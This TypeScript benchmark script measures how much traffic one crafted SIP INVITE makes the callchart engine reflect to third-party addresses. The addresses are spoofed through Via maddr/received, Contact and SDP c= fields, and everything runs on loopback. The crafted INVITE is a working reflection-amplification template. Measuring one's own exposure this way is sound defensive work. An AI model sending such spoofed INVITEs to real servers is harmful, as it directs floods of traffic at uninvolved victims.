// What one hostile INVITE makes callchart send, and to whom (issue 13, findings 2 and 4).
//
// An engine with the demo app (SIP calls answered at once) listens on 127.0.0.1; a raw UDP client
// on 127.0.0.1 sends ONE INVITE and never ACKs. The INVITE names three other loopback addresses
// the client does not own, each with a listening socket that counts what arrives:
//   127.0.0.2  Via maddr (and received=) — where responses would be reflected
//   127.0.0.3  Contact                    — where in-dialog requests (BYE) would be reflected
//   127.0.0.4  SDP c=                     — where RTP/RTCP would be reflected
// After 64*T1 (+ the BYE's own transaction time) the bytes each address got are printed, with the
// ratio to the INVITE's size. T1 defaults to 50 ms (T2 = 8*T1, as RFC 3261's 500/4000), so the
// counts of retransmissions are those of the default timers in a tenth of the time.
//
//   npx tsx bench/sip-amplification.ts            (BENCH_AMP_T1=500 for the RFC timers, 35 s)
//   BENCH_AMP_HONEST=1 …                           (no maddr/received/c= tricks: Contact only)
//   BENCH_AMP_REJECT=486 …                         (the app rejects instead of answering)
import dgram from 'node:dgram';
import { createEngine } from '../src/index.js';
import { demoApp } from '../src/demo.js';

const T1 = Number(process.env.BENCH_AMP_T1 ?? 50);
const HONEST = process.env.BENCH_AMP_HONEST === '1';
const REJECT = process.env.BENCH_AMP_REJECT ? Number(process.env.BENCH_AMP_REJECT) : undefined;

interface Sink {
  name: string;
  address: string;
  sock: dgram.Socket;
  port: number;
  bytes: number;
  datagrams: number;
  firstLines: Map<string, number>;
}

async function sink(name: string, address: string, port = 0): Promise<Sink> {
  const sock = dgram.createSocket('udp4');
  await new Promise<void>((r) => sock.bind(port, address, () => r()));
  const s: Sink = { name, address, sock, port: sock.address().port, bytes: 0, datagrams: 0, firstLines: new Map() };
  sock.on('message', (buf) => {
    s.bytes += buf.length;
    s.datagrams++;
    const text = buf.subarray(0, 64).toString('latin1');
    const line = /^(SIP\/2\.0 \d{3}|[A-Z]+ )/.exec(text)?.[1]?.trim() ?? (buf[0]! >> 6 === 2 ? (buf[1]! >= 200 && buf[1]! <= 204 ? 'RTCP' : 'RTP') : 'other');
    s.firstLines.set(line, (s.firstLines.get(line) ?? 0) + 1);
  });
  return s;
}

async function main(): Promise<void> {
  const engine = createEngine({
    host: '127.0.0.1',
    wsPort: false,
    sipPort: 0,
    rtpPorts: '46000-46099',
    inboundCall: false,
    onIncomingCall: REJECT ? () => ({ action: 'reject', code: REJECT }) : demoApp(),
    sip: { timers: { t1: T1, t2: 8 * T1, t4: 10 * T1 } },
  });
  await engine.listen();
  const port = engine.sipPort!;
  const client = await sink('sender 127.0.0.1', '127.0.0.1');
  const via = await sink('Via maddr/received', '127.0.0.2');
  const contact = await sink('Contact', '127.0.0.3');
  const media = await sink('SDP c= (RTP+1: RTCP)', '127.0.0.4', 47000);
  const rtcp = await sink('SDP c= RTCP port', '127.0.0.4', 47001);
  const sdp = ['v=0', 'o=- 1 1 IN IP4 127.0.0.4', 's=-', `c=IN IP4 ${HONEST ? '127.0.0.1' : '127.0.0.4'}`, 't=0 0', `m=audio ${media.port} RTP/AVP 0`, ''].join('\r\n');
  const viaHeader = HONEST
    ? `SIP/2.0/UDP 127.0.0.1:${client.port};branch=z9hG4bKamp1;rport`
    : `SIP/2.0/UDP 127.0.0.1:${via.port};branch=z9hG4bKamp1;maddr=127.0.0.2;received=127.0.0.2`;
  const invite = Buffer.from(
    [
      `INVITE sip:callchart@127.0.0.1:${port} SIP/2.0`,
      `Via: ${viaHeader}`,
      'Max-Forwards: 70',
      `From: <sip:attacker@127.0.0.1>;tag=amp`,
      `To: <sip:callchart@127.0.0.1:${port}>`,
      'Call-ID: amplification-1@127.0.0.1',
      'CSeq: 1 INVITE',
      `Contact: <sip:victim@127.0.0.3:${contact.port}>`,
      'Content-Type: application/sdp',
      `Content-Length: ${Buffer.byteLength(sdp)}`,
      '',
      sdp,
    ].join('\r\n'),
  );
  client.sock.send(invite, port, '127.0.0.1');
  // 64*T1 of 2xx retransmissions, then a BYE's own 64*T1 of retransmissions, then some slack.
  await new Promise((r) => setTimeout(r, 2 * 64 * T1 + 20 * T1));
  const rows = [client, via, contact, media, rtcp];
  const out = engine.sip!.transport.stats;
  process.stdout.write(`INVITE: ${invite.length} B from 127.0.0.1 (T1 ${T1} ms${HONEST ? ', honest Via and c=' : ''}${REJECT ? `, app rejects ${REJECT}` : ''}); SIP datagrams sent by callchart: ${out.sent}\n`);
  for (const s of rows) {
    const kinds = [...s.firstLines].map(([k, n]) => `${n}× ${k}`).join(', ');
    process.stdout.write(`  ${s.name.padEnd(24)} ${String(s.bytes).padStart(7)} B  ${(s.bytes / invite.length).toFixed(2).padStart(6)}×  ${kinds}\n`);
  }
  const third = via.bytes + contact.bytes + media.bytes + rtcp.bytes;
  process.stdout.write(`  ${'to third parties'.padEnd(24)} ${String(third).padStart(7)} B  ${(third / invite.length).toFixed(2).padStart(6)}×\n`);
  const total = third + client.bytes;
  process.stdout.write(`  ${'total'.padEnd(24)} ${String(total).padStart(7)} B  ${(total / invite.length).toFixed(2).padStart(6)}×\n`);
  for (const s of rows) s.sock.close();
  await engine.close();
}

main().catch((err: unknown) => {
  process.stderr.write(`${err instanceof Error ? err.stack : String(err)}\n`);
  process.exit(1);
});
